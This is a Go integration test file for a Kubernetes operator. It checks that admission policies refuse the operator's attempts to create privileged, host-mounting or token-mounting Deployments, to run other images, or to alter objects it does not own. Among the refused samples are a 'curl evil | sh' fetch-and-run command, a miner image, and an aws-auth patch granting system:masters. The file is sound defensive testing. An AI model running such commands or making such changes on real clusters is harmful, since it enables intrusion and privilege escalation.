package operatorpower

import (
	"context"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// grantClusterRole applies config/rbac: the operator's ClusterRole of the cluster-wide mode
// and its binding to the operator's service account.
func grantClusterRole(t *testing.T) {
	t.Helper()
	rendered, err := kubectl(nil, "kustomize", filepath.Join(root, "config", "rbac"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := kubectl([]byte(rendered), "apply", "--server-side", "-f", "-"); err != nil {
		t.Fatal(err)
	}
}

// restrictedDeployment is shaped like the adapter Deployments the operator renders
// (internal/workload): restricted profile, no token, the adapter image running /adapter.
func restrictedDeployment(namespace, name string) *appsv1.Deployment {
	labels := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name}
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: map[string]string{
			"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "cantus-operator",
		}},
		Spec: appsv1.DeploymentSpec{
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec: corev1.PodSpec{
					AutomountServiceAccountToken: ptr.To(false),
					SecurityContext: &corev1.PodSecurityContext{
						RunAsNonRoot:   ptr.To(true),
						RunAsUser:      ptr.To[int64](65532),
						SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
					},
					Containers: []corev1.Container{{
						Name:    "adapter",
						Image:   adapterImage,
						Command: []string{"/adapter"},
						Args:    []string{"serve", "--config", "/etc/cantus/config.json"},
						SecurityContext: &corev1.SecurityContext{
							AllowPrivilegeEscalation: ptr.To(false),
							ReadOnlyRootFilesystem:   ptr.To(true),
							RunAsNonRoot:             ptr.To(true),
							Capabilities:             &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
						},
						VolumeMounts: []corev1.VolumeMount{{Name: "config", MountPath: "/etc/cantus", ReadOnly: true}},
					}},
					Volumes: []corev1.Volume{{Name: "config", VolumeSource: corev1.VolumeSource{
						ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: name + "-adapter"}},
					}}},
				},
			},
		},
	}
}

// bridged turns d into a stdio bridge's Deployment: the install container of the adapter
// image, the import's image running the copied-in adapter.
func bridged(d *appsv1.Deployment) {
	pod := &d.Spec.Template.Spec
	d.Spec.Template.Labels["app.kubernetes.io/component"] = "stdio-bridge"
	install := pod.Containers[0]
	install.Name, install.Args, install.VolumeMounts = "install-bridge", []string{"bridge", "--install-to", "/cantus/adapter"}, []corev1.VolumeMount{{Name: "cantus-bin", MountPath: "/cantus"}}
	main := *install.DeepCopy()
	main.Name, main.Image, main.Command, main.Args = "bridge", "example.test/mcp/server:v1", []string{"/cantus/adapter", "bridge", "--port", "8765", "--", "server"}, nil
	pod.InitContainers, pod.Containers = []corev1.Container{install}, []corev1.Container{main}
	pod.Volumes = []corev1.Volume{{Name: "cantus-bin", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}}}
}

func createNamespace(t *testing.T, name string) {
	t.Helper()
	if err := admin.Create(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}}); err != nil {
		t.Fatal(err)
	}
}

// waitForPolicy waits until the API server enforces the policy (it loads policies and
// their parameters from informers, so a new policy takes a moment).
func waitForPolicy(t *testing.T, namespace string) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		d := restrictedDeployment(namespace, "probe")
		d.Spec.Template.Spec.HostNetwork = true
		err := operator.Create(context.Background(), d, client.DryRunAll)
		if err != nil && strings.Contains(err.Error(), "cantus-operator-restricted-workloads") {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the admission policy is not enforced after 30s: a hostNetwork Deployment by the operator gave %v", err)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// The operator's service account, whose ClusterRole may create Deployments anywhere,
// cannot create one that leaves the restricted profile, mounts the host or a token, or
// runs another image; the cluster admin still can, and what the operator renders passes.
func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "tenant-vap")
	waitForPolicy(t, "tenant-vap")

	if err := operator.Create(ctx, restrictedDeployment("tenant-vap", "adapter")); err != nil {
		t.Fatalf("the operator's own shape of adapter Deployment is refused: %v", err)
	}
	bridge := restrictedDeployment("tenant-vap", "srv-bridge")
	bridged(bridge)
	if err := operator.Create(ctx, bridge); err != nil {
		t.Fatalf("the operator's own shape of stdio bridge Deployment is refused: %v", err)
	}

	container := func(d *appsv1.Deployment) *corev1.Container { return &d.Spec.Template.Spec.Containers[0] }
	cases := []struct {
		name   string
		bridge bool
		mutate func(*appsv1.Deployment)
		want   string
	}{
		{name: "privileged", mutate: func(d *appsv1.Deployment) {
			container(d).SecurityContext.Privileged = ptr.To(true)
			container(d).SecurityContext.AllowPrivilegeEscalation = nil // the API server refuses both
		}, want: "restricted profile"},
		{name: "privilege escalation", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.AllowPrivilegeEscalation = ptr.To(true) }, want: "restricted profile"},
		{name: "capabilities kept", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.Capabilities = nil }, want: "restricted profile"},
		{name: "capability added", mutate: func(d *appsv1.Deployment) {
			container(d).SecurityContext.Capabilities.Add = []corev1.Capability{"NET_ADMIN"}
		}, want: "restricted profile"},
		{name: "container as root", mutate: func(d *appsv1.Deployment) {
			container(d).SecurityContext.RunAsUser = ptr.To[int64](0)
			container(d).SecurityContext.RunAsNonRoot = nil
		}, want: "restricted profile"},
		{name: "host port", mutate: func(d *appsv1.Deployment) {
			container(d).Ports = []corev1.ContainerPort{{ContainerPort: 8765, HostPort: 8765}}
		}, want: "restricted profile"},
		{name: "pod may run as root", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.RunAsNonRoot = nil }, want: "non-root"},
		{name: "seccomp unconfined", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.SecurityContext.SeccompProfile.Type = corev1.SeccompProfileTypeUnconfined
		}, want: "RuntimeDefault"},
		{name: "host network", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostNetwork = true }, want: "host's network"},
		{name: "host PID", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostPID = true }, want: "host's network, PID"},
		{name: "host IPC", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostIPC = true }, want: "host's network, PID or IPC"},
		{name: "hostPath", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "root",
				VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}, want: "volumes the operator does not mount"},
		{name: "projected token", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "token",
				VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{{
					ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"},
				}}}}})
		}, want: "Secrets): token"},
		{name: "token mounted", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.AutomountServiceAccountToken = ptr.To(true) }, want: "service account token"},
		{name: "token mounted by default", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.AutomountServiceAccountToken = nil }, want: "service account token"},
		{name: "another image", mutate: func(d *appsv1.Deployment) { container(d).Image = "example.test/miner:latest" }, want: "adapter (example.test/miner:latest)"},
		{name: "adapter image, another program", mutate: func(d *appsv1.Deployment) { container(d).Command = []string{"/manager"} }, want: "do not run /adapter"},
		{name: "priority class", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.PriorityClassName = "system-cluster-critical" }, want: "priorityClassName"},
		{name: "bridge with a foreign init container", bridge: true, mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.InitContainers[0].Image = "example.test/miner:latest"
		}, want: "install-bridge (example.test/miner:latest)"},
		{name: "bridge with a second container", bridge: true, mutate: func(d *appsv1.Deployment) {
			extra := d.Spec.Template.Spec.Containers[0]
			extra.Name = "sidecar"
			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, extra)
		}, want: "sidecar"},
		{name: "bridge not running the adapter", bridge: true, mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}
		}, want: "bridge (example.test/mcp/server:v1)"},
	}
	// The restricted-workloads binding selects the operator's label; dropping the label
	// does not take a Deployment out of its reach, own-objects refuses it first.
	unlabelled := restrictedDeployment("tenant-vap", "unlabelled")
	delete(unlabelled.Labels, "app.kubernetes.io/managed-by")
	unlabelled.Spec.Template.Spec.HostNetwork = true
	if err := operator.Create(ctx, unlabelled, client.DryRunAll); err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") {
		t.Fatalf("the operator created an unlabelled hostNetwork Deployment: %v, want refused by cantus-operator-own-objects", err)
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := restrictedDeployment("tenant-vap", "forbidden")
			if tc.bridge {
				bridged(d)
			}
			tc.mutate(d)
			err := operator.Create(ctx, d, client.DryRunAll)
			if err == nil {
				t.Fatal("the operator created the Deployment")
			}
			if !strings.Contains(err.Error(), "cantus-operator-restricted-workloads") || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("refused for another reason than %q: %v", tc.want, err)
			}
			// The same change to an existing Deployment is refused too (the operator
			// patches; it may not update).
			live := restrictedDeployment("tenant-vap", "adapter")
			if tc.bridge {
				live = restrictedDeployment("tenant-vap", "srv-bridge")
				bridged(live)
			}
			if err := operator.Get(ctx, client.ObjectKeyFromObject(live), live); err != nil {
				t.Fatal(err)
			}
			before := live.DeepCopy()
			tc.mutate(live)
			if err := operator.Patch(ctx, live, client.MergeFrom(before), client.DryRunAll); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("the operator's update was not refused for %q: %v", tc.want, err)
			}
			// The policy binds the operator only: the admin decides for itself.
			if err := admin.Create(ctx, d, client.DryRunAll); err != nil {
				t.Fatalf("the admin's Deployment is refused: %v", err)
			}
		})
	}
}

// The operator may write ConfigMaps everywhere, but not the parameters of its own policy:
// they are not its own (cantus-operator-own-objects), and even labelled as its own (a
// kustomize commonLabels, say) they stay out of reach (cantus-operator-admission-params).
func TestOperatorCannotRewriteItsAdmissionParameters(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	waitForPolicy(t, operatorNamespace)
	key := client.ObjectKey{Namespace: operatorNamespace, Name: "cantus-operator-admission"}
	// refusedBy says whether err is a refusal by one of policies.
	refusedBy := func(err error, policies ...string) bool {
		return err != nil && slices.ContainsFunc(policies, func(p string) bool { return strings.Contains(err.Error(), p) })
	}
	tryToRewrite := func(policies ...string) {
		t.Helper()
		params := &corev1.ConfigMap{}
		if err := operator.Get(ctx, key, params); err != nil {
			t.Fatal(err)
		}
		before := params.DeepCopy()
		params.Data["adapterImages"] += ",example.test/miner:latest"
		if err := operator.Patch(ctx, params, client.MergeFrom(before), client.DryRunAll); !refusedBy(err, policies...) {
			t.Fatalf("the operator widened its own adapter images: %v, want refused by %v", err, policies)
		}
		if err := operator.Delete(ctx, params, client.DryRunAll); !refusedBy(err, policies...) {
			t.Fatalf("the operator deleted its policy's parameters: %v, want refused by %v", err, policies)
		}
	}
	// Both policies refuse it; the API server names the first that did.
	tryToRewrite("cantus-operator-own-objects", "cantus-operator-admission-params")

	params := &corev1.ConfigMap{}
	if err := admin.Get(ctx, key, params); err != nil {
		t.Fatal(err)
	}
	before := params.DeepCopy()
	params.Labels["app.kubernetes.io/managed-by"] = "cantus-operator"
	if err := admin.Patch(ctx, params, client.MergeFrom(before)); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		labelled := &corev1.ConfigMap{}
		if err := admin.Get(ctx, key, labelled); err == nil {
			delete(labelled.Labels, "app.kubernetes.io/managed-by")
			_ = admin.Update(ctx, labelled)
		}
	})
	tryToRewrite("cantus-operator-admission-params")

	other := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "anything-else",
		Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}}}
	if err := operator.Create(ctx, other, client.DryRunAll); err != nil {
		t.Fatalf("the operator may not write another ConfigMap: %v", err)
	}
}

// The operator's RBAC lets it patch and delete ConfigMaps, Services and NetworkPolicies
// everywhere; the policy lets it touch only those labelled as its own, create only
// labelled ones, and open no Service beyond ClusterIP.
func TestOperatorWritesOnlyItsOwnObjects(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "platform")
	own := map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}

	// The admin's objects: a ConfigMap that maps cloud roles to cluster users, a
	// default-deny NetworkPolicy, another app's Service.
	authMap := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "aws-auth"}, Data: map[string]string{"mapRoles": "[]"}}
	denyAll := &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "default-deny"},
		Spec: networkingv1.NetworkPolicySpec{PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress}}}
	billing := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "billing"},
		Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "billing"}, Ports: []corev1.ServicePort{{Port: 80}}}}
	mine := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "srv-adapter", Labels: own}}
	for _, obj := range []client.Object{authMap, denyAll, billing, mine} {
		if err := admin.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
	}

	// The policy loads through informers: wait until the first refusal shows.
	deadline := time.Now().Add(30 * time.Second)
	for {
		err := operator.Delete(ctx, denyAll.DeepCopy(), client.DryRunAll)
		if err != nil && strings.Contains(err.Error(), "cantus-operator-own-objects") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("deleting the admin's NetworkPolicy as the operator: %v, want refused by cantus-operator-own-objects", err)
		}
		time.Sleep(200 * time.Millisecond)
	}

	refused := func(what string, err error, want string) {
		t.Helper()
		if err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want refused by cantus-operator-own-objects saying %q", what, err, want)
		}
	}
	patched := authMap.DeepCopy()
	patched.Data["mapRoles"] = "- rolearn: arn:aws:iam::1:role/x\n  groups: [system:masters]"
	refused("patch the admin's ConfigMap", operator.Patch(ctx, patched, client.MergeFrom(authMap), client.DryRunAll), "platform/aws-auth is not its own")
	refused("delete the admin's ConfigMap", operator.Delete(ctx, authMap.DeepCopy(), client.DryRunAll), "is not its own")
	hijacked := billing.DeepCopy()
	hijacked.Spec.Selector = map[string]string{"app.kubernetes.io/name": "cantus-adapter"}
	refused("repoint another app's Service", operator.Patch(ctx, hijacked, client.MergeFrom(billing), client.DryRunAll), "platform/billing is not its own")
	unlabelled := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "new"}}
	refused("create an unlabelled ConfigMap", operator.Create(ctx, unlabelled, client.DryRunAll), "must carry the label")
	unmarked := mine.DeepCopy()
	unmarked.Labels = map[string]string{"app": "x"}
	refused("drop its own label", operator.Patch(ctx, unmarked, client.MergeFrom(mine), client.DryRunAll), "must carry the label")
	for name, spec := range map[string]corev1.ServiceSpec{
		"NodePort":    {Type: corev1.ServiceTypeNodePort, Ports: []corev1.ServicePort{{Port: 80}}},
		"externalIPs": {ExternalIPs: []string{"203.0.113.7"}, Ports: []corev1.ServicePort{{Port: 80}}},
	} {
		svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "open", Labels: own}, Spec: spec}
		refused("a "+name+" Service", operator.Create(ctx, svc, client.DryRunAll), "ClusterIP")
	}

	// Its own objects stay its to write and delete.
	labelled := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "new", Labels: own}}
	if err := operator.Create(ctx, labelled, client.DryRunAll); err != nil {
		t.Errorf("create a labelled ConfigMap: %v", err)
	}
	if err := operator.Delete(ctx, mine.DeepCopy(), client.DryRunAll); err != nil {
		t.Errorf("delete its own ConfigMap: %v", err)
	}
	if err := admin.Delete(ctx, denyAll.DeepCopy(), client.DryRunAll); err != nil {
		t.Errorf("the admin may still delete its NetworkPolicy: %v", err)
	}
}

// Without its parameters the restricted-workloads policy refuses the Deployments labelled
// as the operator's (it fails closed) and nobody else's: the API server resolves a binding's
// parameters before its matchConditions, so an unscoped binding would stop every
// Deployment write in the cluster while the ConfigMap is gone (a namespace deleted, the
// moment of a helm uninstall between the ConfigMap and the binding).
func TestMissingAdmissionParametersRefuseOnlyTheOperator(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "tenant-noparams")
	waitForPolicy(t, "tenant-noparams")

	key := client.ObjectKey{Namespace: operatorNamespace, Name: "cantus-operator-admission"}
	params := &corev1.ConfigMap{}
	if err := admin.Get(ctx, key, params); err != nil {
		t.Fatal(err)
	}
	if err := admin.Delete(ctx, params); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		restored := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: key.Namespace, Name: key.Name,
			Labels: params.Labels, Annotations: params.Annotations}, Data: params.Data}
		if err := admin.Create(context.Background(), restored); err != nil {
			t.Errorf("restoring the admission parameters: %v", err)
		}
		waitForImagesAllowed(t, "tenant-noparams")
	})

	// The API server learns of the deletion through an informer: wait until the
	// operator's own Deployment is refused for want of parameters.
	var refusal error
	deadline := time.Now().Add(30 * time.Second)
	for {
		refusal = operator.Create(ctx, restrictedDeployment("tenant-noparams", "adapter"), client.DryRunAll)
		if refusal != nil && strings.Contains(refusal.Error(), "cantus-operator-restricted-workloads") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the operator's Deployment is not refused 30s after its policy's parameters were deleted: %v", refusal)
		}
		time.Sleep(200 * time.Millisecond)
	}
	t.Logf("the operator without parameters: %v", refusal)

	someoneElses := restrictedDeployment("tenant-noparams", "web")
	someoneElses.Labels = map[string]string{"app.kubernetes.io/name": "web"}
	if err := admin.Create(ctx, someoneElses, client.DryRunAll); err != nil {
		t.Fatalf("the admin's Deployment is refused while the operator's parameters are missing: %v", err)
	}
	// What still waits for the parameters is what claims to be the operator's: the
	// binding cannot see who writes before it has them.
	labelledByAdmin := restrictedDeployment("tenant-noparams", "labelled")
	if err := admin.Create(ctx, labelledByAdmin, client.DryRunAll); err == nil {
		t.Fatal("a Deployment labelled managed-by=cantus-operator was admitted without the policy's parameters; the binding no longer fails closed")
	}
}

// waitForImagesAllowed waits until the operator's own shape of Deployment is admitted
// again (the restored parameters reached the API server's informer).
func waitForImagesAllowed(t *testing.T, namespace string) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		err := operator.Create(context.Background(), restrictedDeployment(namespace, "adapter"), client.DryRunAll)
		if err == nil {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the operator's Deployment is still refused 30s after the parameters were restored: %v", err)
		}
		time.Sleep(200 * time.Millisecond)
	}
}
